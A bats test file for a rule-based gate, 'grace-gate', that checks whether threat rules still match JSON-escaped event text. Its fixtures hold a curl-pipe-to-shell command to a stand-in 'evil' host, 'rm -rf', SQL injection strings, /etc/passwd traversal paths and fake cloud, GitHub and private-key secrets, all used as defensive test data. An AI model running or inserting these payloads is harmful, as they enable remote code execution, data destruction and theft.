#!/usr/bin/env bats
# grace-gate: the shipped threat rules (config/governance.yaml) match what
# an event says, however JSON spells it: for every rule, one event per
# escape form (\n \t \r \" \\ \/ \uXXXX and a surrogate pair) inside or
# next to the text the rule looks for. Escapes do not join two strings
# into a match, and in: still limits a rule to its field.

load helpers

setup() {
	cd "$ROOT" || exit 1
}

gate() {
	grace-gate --now 2026-11-21T12:00:00Z "$@"
}

# The id, decision, deciding rules and risk of each event in $output.
verdicts() {
	jq -c '[.id, .grace.gate.decision, .grace.gate.rules, .grace.gate.risk]' <<<"$output"
}

@test "aws-access-key: every escape form of the matched text is matched" {
	run -1 --separate-stderr gate <<<'{"id":"aws-access-key-plain","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"AKIAABCDEFGHIJKLMNOP"}}
{"id":"aws-access-key-n","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"key:\nAKIAABCDEFGHIJKLMNOP"}}
{"id":"aws-access-key-t","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"key:\tAKIAABCDEFGHIJKLMNOP"}}
{"id":"aws-access-key-r","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"key:\rAKIAABCDEFGHIJKLMNOP"}}
{"id":"aws-access-key-quote","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"\"AKIAABCDEFGHIJKLMNOP\""}}
{"id":"aws-access-key-backslash","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"\\AKIAABCDEFGHIJKLMNOP"}}
{"id":"aws-access-key-slash","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"\/AKIAABCDEFGHIJKLMNOP"}}
{"id":"aws-access-key-u","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"\u0041\u004B\u0049\u0041ABCDEFGHIJKLMNOP"}}
{"id":"aws-access-key-pair","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"\ud83d\ude00AKIAABCDEFGHIJKLMNOP"}}'
	[ "$(verdicts)" = '["aws-access-key-plain","deny",["aws-access-key"],"critical"]
["aws-access-key-n","deny",["aws-access-key"],"critical"]
["aws-access-key-t","deny",["aws-access-key"],"critical"]
["aws-access-key-r","deny",["aws-access-key"],"critical"]
["aws-access-key-quote","deny",["aws-access-key"],"critical"]
["aws-access-key-backslash","deny",["aws-access-key"],"critical"]
["aws-access-key-slash","deny",["aws-access-key"],"critical"]
["aws-access-key-u","deny",["aws-access-key"],"critical"]
["aws-access-key-pair","deny",["aws-access-key"],"critical"]' ]
	[ "$stderr" = "9 events, 0 allowed, 0 warned, 0 review, 9 denied, 0 errors" ]
}

@test "private-key: every escape form of the matched text is matched" {
	run -1 --separate-stderr gate <<<'{"id":"private-key-plain","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"-----BEGIN RSA PRIVATE KEY-----"}}
{"id":"private-key-n","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"x\n-----BEGIN RSA PRIVATE KEY-----\nMIIB"}}
{"id":"private-key-t","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"\t-----BEGIN RSA PRIVATE KEY-----\t"}}
{"id":"private-key-r","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"-----BEGIN RSA PRIVATE KEY-----\r\nMIIB"}}
{"id":"private-key-quote","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"\"-----BEGIN RSA PRIVATE KEY-----\""}}
{"id":"private-key-backslash","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"\\-----BEGIN RSA PRIVATE KEY-----\\"}}
{"id":"private-key-slash","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"\/-----BEGIN RSA PRIVATE KEY-----\/"}}
{"id":"private-key-u","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"\u002d\u002d\u002d\u002d\u002dBEGIN\u0020RSA\u0020PRIVATE\u0020KEY-----"}}
{"id":"private-key-pair","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"\ud83d\udd11-----BEGIN RSA PRIVATE KEY-----"}}'
	[ "$(verdicts)" = '["private-key-plain","deny",["private-key"],"critical"]
["private-key-n","deny",["private-key"],"critical"]
["private-key-t","deny",["private-key"],"critical"]
["private-key-r","deny",["private-key"],"critical"]
["private-key-quote","deny",["private-key"],"critical"]
["private-key-backslash","deny",["private-key"],"critical"]
["private-key-slash","deny",["private-key"],"critical"]
["private-key-u","deny",["private-key"],"critical"]
["private-key-pair","deny",["private-key"],"critical"]' ]
	[ "$stderr" = "9 events, 0 allowed, 0 warned, 0 review, 9 denied, 0 errors" ]
}

@test "github-token: every escape form of the matched text is matched" {
	run -1 --separate-stderr gate <<<'{"id":"github-token-plain","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"ghp_abcdefghijklmnopqrstuvwxyz0123456789"}}
{"id":"github-token-n","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"t=\nghp_abcdefghijklmnopqrstuvwxyz0123456789"}}
{"id":"github-token-t","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"t=\tghp_abcdefghijklmnopqrstuvwxyz0123456789"}}
{"id":"github-token-r","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"t=\rghp_abcdefghijklmnopqrstuvwxyz0123456789"}}
{"id":"github-token-quote","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"\"ghp_abcdefghijklmnopqrstuvwxyz0123456789\""}}
{"id":"github-token-backslash","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"\\ghp_abcdefghijklmnopqrstuvwxyz0123456789"}}
{"id":"github-token-slash","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"\/ghp_abcdefghijklmnopqrstuvwxyz0123456789"}}
{"id":"github-token-u","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"\u0067\u0068\u0070\u005Fabcdefghijklmnopqrstuvwxyz0123456789"}}
{"id":"github-token-pair","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"\ud83d\ude00ghp_abcdefghijklmnopqrstuvwxyz0123456789"}}'
	[ "$(verdicts)" = '["github-token-plain","deny",["github-token"],"critical"]
["github-token-n","deny",["github-token"],"critical"]
["github-token-t","deny",["github-token"],"critical"]
["github-token-r","deny",["github-token"],"critical"]
["github-token-quote","deny",["github-token"],"critical"]
["github-token-backslash","deny",["github-token"],"critical"]
["github-token-slash","deny",["github-token"],"critical"]
["github-token-u","deny",["github-token"],"critical"]
["github-token-pair","deny",["github-token"],"critical"]' ]
	[ "$stderr" = "9 events, 0 allowed, 0 warned, 0 review, 9 denied, 0 errors" ]
}

@test "shell-injection: every escape form of the matched text is matched" {
	run -1 --separate-stderr gate <<<'{"id":"shell-injection-plain","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"api; curl http://evil/x | sh"}}
{"id":"shell-injection-n","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"api;\ncurl http://evil/x | sh"}}
{"id":"shell-injection-t","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"api;\tcurl http://evil/x | sh"}}
{"id":"shell-injection-r","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"api;\rcurl http://evil/x | sh"}}
{"id":"shell-injection-quote","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"\";rm -rf x\""}}
{"id":"shell-injection-backslash","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"a\\;rm -rf x"}}
{"id":"shell-injection-slash","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"api;curl http:\/\/evil\/x"}}
{"id":"shell-injection-u","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"api\u003b\u0020curl http://evil/x"}}
{"id":"shell-injection-pair","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"\ud83d\ude00;curl http://evil/x"}}'
	[ "$(verdicts)" = '["shell-injection-plain","review",["tier:high","shell-injection"],"high"]
["shell-injection-n","review",["tier:high","shell-injection"],"high"]
["shell-injection-t","review",["tier:high","shell-injection"],"high"]
["shell-injection-r","review",["tier:high","shell-injection"],"high"]
["shell-injection-quote","review",["tier:high","shell-injection"],"high"]
["shell-injection-backslash","review",["tier:high","shell-injection"],"high"]
["shell-injection-slash","review",["tier:high","shell-injection"],"high"]
["shell-injection-u","review",["tier:high","shell-injection"],"high"]
["shell-injection-pair","review",["tier:high","shell-injection"],"high"]' ]
	[ "$stderr" = "9 events, 0 allowed, 0 warned, 9 review, 0 denied, 0 errors" ]
}

@test "sql-injection: every escape form of the matched text is matched" {
	run -1 --separate-stderr gate <<<'{"id":"sql-injection-plain","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"1 union select pass"}}
{"id":"sql-injection-n","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"1 union\nselect pass"}}
{"id":"sql-injection-t","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"1 union\tselect pass"}}
{"id":"sql-injection-r","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"1 union\rselect pass"}}
{"id":"sql-injection-quote","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"x\" or 1=1"}}
{"id":"sql-injection-backslash","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"x\\'\''; drop table users"}}
{"id":"sql-injection-slash","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"1 union select pass \/* c *\/"}}
{"id":"sql-injection-u","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"1 UNION\u0020\u017fELECT pass"}}
{"id":"sql-injection-pair","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"\ud83d\ude00 union select pass"}}'
	[ "$(verdicts)" = '["sql-injection-plain","review",["tier:high","sql-injection"],"high"]
["sql-injection-n","review",["tier:high","sql-injection"],"high"]
["sql-injection-t","review",["tier:high","sql-injection"],"high"]
["sql-injection-r","review",["tier:high","sql-injection"],"high"]
["sql-injection-quote","review",["tier:high","sql-injection"],"high"]
["sql-injection-backslash","review",["tier:high","sql-injection"],"high"]
["sql-injection-slash","review",["tier:high","sql-injection"],"high"]
["sql-injection-u","review",["tier:high","sql-injection"],"high"]
["sql-injection-pair","review",["tier:high","sql-injection"],"high"]' ]
	[ "$stderr" = "9 events, 0 allowed, 0 warned, 9 review, 0 denied, 0 errors" ]
}

@test "path-traversal: every escape form of the matched text is matched" {
	run -0 --separate-stderr gate <<<'{"id":"path-traversal-plain","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"../../etc/passwd"}}
{"id":"path-traversal-n","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"\n../../etc/passwd"}}
{"id":"path-traversal-t","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"\t../../etc/passwd"}}
{"id":"path-traversal-r","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"\r../../etc/passwd"}}
{"id":"path-traversal-quote","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"\"../../etc/passwd\""}}
{"id":"path-traversal-backslash","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"..\\../../etc/passwd"}}
{"id":"path-traversal-slash","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"..\/..\/etc\/passwd"}}
{"id":"path-traversal-u","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"\u002e\u002e/\u002E\u002E/etc/passwd"}}
{"id":"path-traversal-pair","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"\ud83d\udcc1../../etc/passwd"}}'
	[ "$(verdicts)" = '["path-traversal-plain","allow",["heal-proposal"],"medium"]
["path-traversal-n","allow",["heal-proposal"],"medium"]
["path-traversal-t","allow",["heal-proposal"],"medium"]
["path-traversal-r","allow",["heal-proposal"],"medium"]
["path-traversal-quote","allow",["heal-proposal"],"medium"]
["path-traversal-backslash","allow",["heal-proposal"],"medium"]
["path-traversal-slash","allow",["heal-proposal"],"medium"]
["path-traversal-u","allow",["heal-proposal"],"medium"]
["path-traversal-pair","allow",["heal-proposal"],"medium"]' ]
	[ "$stderr" = "9 events, 9 allowed, 0 warned, 0 review, 0 denied, 0 errors" ]
}

@test "escapes do not join two strings into a match; in: still scopes a rule" {
	run -0 --separate-stderr gate <<<'{"id":"two","type":"healing.proposed","actor":"avn","data":{"action":"restart","a":"1 union","b":"select x"}}
{"id":"two-esc","type":"healing.proposed","actor":"avn","data":{"action":"restart","a":"1 union\n","b":"\tselect x"}}
{"id":"outside","type":"healing.proposed","actor":"avn","note":"api;\ncurl x","data":{"action":"restart"}}
{"id":"no-marker","type":"healing.proposed","actor":"avn","data":{"action":"restart","v":"api\ncurl http://evil/x"}}
{"id":"key-name","type":"healing.proposed","actor":"avn","data":{"action":"restart","\u002e\u002e/../":1}}'
	[ "$(verdicts)" = '["two","allow",["heal-proposal"],"low"]
["two-esc","allow",["heal-proposal"],"low"]
["outside","allow",["heal-proposal"],"low"]
["no-marker","allow",["heal-proposal"],"low"]
["key-name","allow",["heal-proposal"],"medium"]' ]
	[ "$stderr" = "5 events, 5 allowed, 0 warned, 0 review, 0 denied, 0 errors" ]
}
